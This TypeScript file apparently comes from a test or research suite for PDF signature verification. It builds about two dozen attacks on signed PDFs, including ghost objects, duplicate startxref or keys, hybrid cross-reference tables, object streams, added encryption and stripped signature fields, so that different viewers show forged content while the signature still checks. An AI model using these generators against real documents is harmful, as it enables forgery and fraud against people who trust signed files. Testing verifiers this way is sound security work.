import { deflateSync } from 'node:zlib';
import { bodyOf } from '../fixtures/pdf/update-file.ts';
import { type AttackClass, edited, lastStartxref, later } from './attack.ts';
import { craftSignature } from './craft.ts';
import { at, forgedPage, formObject, letter, letterBodies, streamObject } from './letter.ts';

const forged = streamObject('', forgedPage);

function append(file: Buffer, text: string): Buffer {
  return Buffer.concat([file, Buffer.from(text, 'latin1')]);
}

/** Object 5 packed into an object stream, with a cross-reference stream that says so. */
function packedUpdate(file: Buffer, entry: (objectStream: number) => readonly number[], isTwice = false): Buffer {
  const evil = edited(file, at.resources, '11 0 R', '51 0 R');
  const both = `7 0 7 ${evil.length + 1} ${evil} ${bodyOf(file, at.resources)}`;
  const packed = deflateSync(Buffer.from(isTwice ? both : `7 0 ${evil}`, 'latin1'));
  const head = isTwice ? `/N 2/First ${both.indexOf('<')}` : '/N 1/First 4';
  const start = file.length + 1;
  const body = `50 0 obj\n<</Type/ObjStm${head}/Filter/FlateDecode/Length ${packed.length}>>\nstream\n${packed.toString('latin1')}\nendstream\nendobj\n`;
  const other = `51 0 obj\n${formObject('BT /F1 14 Tf 0 5 Td (Faellig am 1. Juni) Tj ET', '/Resources 7 0 R')}\nendobj\n`;
  const xref = start + body.length + other.length;
  const rows = [entry(50), [1, start, 0], [1, start + body.length, 0], [1, xref, 0]];
  const bytes = Buffer.concat(
    rows.map(([type = 0, second = 0, third = 0]) => {
      const row = Buffer.alloc(6);
      row.writeUInt8(type, 0);
      row.writeUInt32BE(second, 1);
      row.writeUInt8(third, 5);
      return row;
    }),
  );
  const dictionary = `/Type/XRef/Size 60/Root 1 0 R/Info 18 0 R/W[1 4 1]/Index[7 1 50 3]/Prev ${lastStartxref(file)}`;
  const section = `52 0 obj\n${streamObject(dictionary, bytes.toString('latin1'))}\nendobj\nstartxref\n${xref}\n%%EOF\n`;
  return append(file, `\n${body}${other}${section}`);
}

/** Readers disagree on what such a file says, and the attacker chooses who sees what. */
export const differentials: AttackClass = {
  name: 'ghost objects and parser differentials',
  attacks: [
    {
      name: 'ghost object behind the file',
      gain: 'An object that no table lists is found by readers that scan.',
      make: ({ signed }) => append(signed, `50 0 obj\n${bodyOf(signed, at.page1)}\nendobj\n`),
    },
    {
      name: 'ghost page object in a listed update',
      gain: 'Scanning readers see two objects 3, tables only one.',
      make: ({ signed }) => {
        const update = later(signed, { [at.info]: '<</Title(neu)>>' }).toString('latin1');
        const ghost = `3 0 obj\n${edited(signed, at.page1, '5 0 R', '6 0 R')}\nendobj\n`;
        const cut = signed.length;
        const shifted = update.slice(cut).replace(/^(\d{10}) 00000 n/gm, (_, offset: string) => {
          return `${String(Number(offset) + ghost.length + 1).padStart(10, '0')} 00000 n`;
        });
        const moved = shifted.replace(
          /startxref\n(\d+)/,
          (_, offset: string) => `startxref\n${Number(offset) + ghost.length + 1}`,
        );
        return Buffer.from(`${update.slice(0, cut)}\n${ghost}${moved}`, 'latin1');
      },
    },
    {
      name: 'added object without a use',
      gain: 'It waits for a later switch.',
      make: ({ signed }) => later(signed, { 50: formObject('0 0 m') }),
    },
    {
      name: 'object within a comment',
      gain: 'Readers that scan lines take the commented object.',
      make: ({ signed }) => append(signed, `%\r5 0 obj\r${forged.replaceAll('\n', '\r')}\rendobj\r`),
    },
    {
      name: 'object behind the last %%EOF in one line',
      gain: 'What follows %%EOF on its line is a comment for some and data for others.',
      make: ({ signed }) => append(Buffer.from(signed.subarray(0, signed.length - 1)), ` 5 0 obj\n${forged}\nendobj\n`),
    },
    {
      name: 'junk before the header',
      gain: 'Offsets count from another place for half of the readers.',
      make: ({ signed }) => Buffer.concat([Buffer.from(`5 0 obj\n${forged}\nendobj\n`, 'latin1'), signed]),
    },
    {
      name: 'second header behind the file',
      gain: 'Readers that look for the last %PDF- begin there.',
      make: ({ signed }) => append(signed, letter({ [at.content1]: forged }).toString('latin1')),
    },
    {
      name: 'two startxref',
      gain: "The first one names an attacker's table, the last the signed one.",
      make: ({ signed }) => {
        const update = later(signed, { [at.content1]: forged });
        return append(update, `startxref\n${lastStartxref(signed)}\n%%EOF\n`);
      },
    },
    {
      name: 'startxref within a comment',
      gain: 'Strict readers skip the comment, lenient ones follow it.',
      make: ({ signed }) => {
        const update = later(signed, { [at.content1]: forged });
        return append(update, `%startxref\n${lastStartxref(signed)}\n%%EOF\n`);
      },
    },
    {
      name: 'startxref with two numbers',
      gain: 'Readers take the first or the last number.',
      make: ({ signed }) => {
        const update = later(signed, { [at.content1]: forged });
        return append(update, `startxref\n${lastStartxref(signed)} ${lastStartxref(update)}\n%%EOF\n`);
      },
    },
    {
      name: 'two entries for one object in a table',
      gain: 'The first or the last entry counts, depending on the reader.',
      make: ({ signed }) => {
        const update = later(signed, { [at.info]: bodyOf(signed, at.info), [at.content1]: forged }).toString('latin1');
        const old = String(signed.indexOf('\n5 0 obj') + 1).padStart(10, '0');
        const table = update.lastIndexOf('trailer');
        return Buffer.from(`${update.slice(0, table)}5 1\n${old} 00000 n \n${update.slice(table)}`, 'latin1');
      },
    },
    {
      name: 'duplicate /Contents key in a rewritten page',
      gain: 'The first key shows the forged page, the last one the signed.',
      make: ({ signed }) => later(signed, { [at.page1]: bodyOf(signed, at.page1).replace('<<', '<</Contents 6 0 R ') }),
    },
    {
      name: 'duplicate key written as an escape',
      gain: '/Cont#65nts is /Contents only for readers that decode names.',
      make: ({ signed }) =>
        later(signed, { [at.page1]: bodyOf(signed, at.page1).replace('<<', '<</Cont#65nts 6 0 R ') }),
    },
    {
      name: 'duplicate key signed by the victim',
      gain: 'The author prepared a page of which every reader shows another content.',
      flag: 'warned',
      make: () => craftSignature(letter({ [at.page1]: letterBodies()[at.page1]!.replace('<<', '<</Contents 6 0 R') })),
    },
    {
      name: 'duplicate /Root in the trailer',
      gain: 'The first of the two leads to another catalog.',
      make: ({ signed }) =>
        later(signed, { 50: edited(signed, at.catalog, '/Pages 2 0 R', '/Pages 4 0 R') }, '/Info 18 0 R/Root 50 0 R'),
    },
    {
      name: 'hybrid table hides what its stream supplies',
      gain: 'Old readers see the table, new ones the stream with the forged object.',
      make: ({ signed }) => {
        const update = packedUpdate(signed, (stream) => [2, stream, 0]).toString('latin1');
        const offset = update.length;
        const table = `xref\n7 1\n0000000000 65535 f \ntrailer\n<</Size 60/Root 1 0 R/Info 18 0 R/Prev ${lastStartxref(signed)}/XRefStm ${/startxref\n(\d+)\n%%EOF\n$/.exec(update)![1]}>>\n`;
        return Buffer.from(`${update}${table}startxref\n${offset}\n%%EOF\n`, 'latin1');
      },
    },
    {
      name: 'object stream instead of the listed object',
      gain: 'The same number comes from an object stream with another content.',
      make: ({ signed }) => packedUpdate(signed, (stream) => [2, stream, 0]),
    },
    {
      name: 'object stream that holds a number twice',
      gain: 'Readers that go by the place see the first object, others the last, which is the signed one.',
      make: ({ signed }) => packedUpdate(signed, (stream) => [2, stream, 0], true),
    },
    {
      name: 'header of an object that only some can read',
      gain: 'For strict readers no object stands there, and they begin to scan.',
      make: ({ signed }) => {
        const update = later(signed, { [at.info]: '<</Title(neu)>>' }).toString('latin1');
        const cut = update.lastIndexOf('18 0 obj');
        return Buffer.from(`${update.slice(0, cut)}18 +0 obj${update.slice(cut + 8).replace('>>\n', '>>')}`, 'latin1');
      },
    },
    {
      name: 'object stream that nobody refers to',
      gain: 'It holds an object under a number that exists already; readers that index all streams take it.',
      make: ({ signed }) => packedUpdate(signed, () => [1, signed.indexOf('\n7 0 obj') + 1, 0]),
    },
    {
      name: 'stream longer than its /Length',
      gain: 'Readers that look for endstream show more than readers that count.',
      make: ({ certified }) =>
        later(certified[3], {
          [at.page2]: bodyOf(certified[3], at.page2).replace('/Annots[', '/Annots[50 0 R '),
          50: '<</Type/Annot/Subtype/Stamp/Rect[300 300 400 340]/F 4/AP<</N 51 0 R>>>>',
          51: formObject('0 0 9 9 re f').replace('\nendstream', ' BT /F1 40 Tf (900) Tj ET\nendstream'),
        }),
    },
    {
      name: 'other generation of the page content',
      gain: 'The old references miss it, scanning readers do not.',
      make: ({ signed }) => {
        const moved = later(signed, { [at.content1]: forged }).toString('latin1');
        const from = moved.lastIndexOf('5 0 obj');
        return Buffer.from(
          moved.slice(0, from) +
            moved
              .slice(from)
              .replace('5 0 obj', '5 1 obj')
              .replace(/(5 1\n\d{10}) 00000 n/, '$1 00001 n'),
          'latin1',
        );
      },
    },
    {
      name: 'encryption added',
      gain: 'Readers that decrypt see other strings.',
      make: ({ signed }) =>
        later(signed, { 50: '<</Filter/Standard/V 1/R 2/P -4/O(x)/U(x)>>' }, '/Info 18 0 R/Encrypt 50 0 R'),
    },
    {
      name: 'signed field out of the form, other one in',
      gain: 'The verifier reads the form, the viewer the page.',
      make: ({ signed }) =>
        later(signed, {
          [at.catalog]: bodyOf(signed, at.catalog).replace(/\/Fields ?\[[^\]]*\]/, '/Fields[15 0 R 17 0 R]'),
        }),
    },
    {
      name: 'form and widget removed',
      gain: 'A file without signatures and without the warning that one is missing.',
      make: ({ signed }) =>
        later(signed, {
          [at.catalog]: bodyOf(signed, at.catalog).replace(/\/Fields ?\[[^\]]*\]/, '/Fields[]'),
          [at.page1]: bodyOf(signed, at.page1).replace(/\/Annots ?\[[^\]]*\]/, '/Annots[]'),
          [at.content1]: forged,
        }),
    },
  ],
};
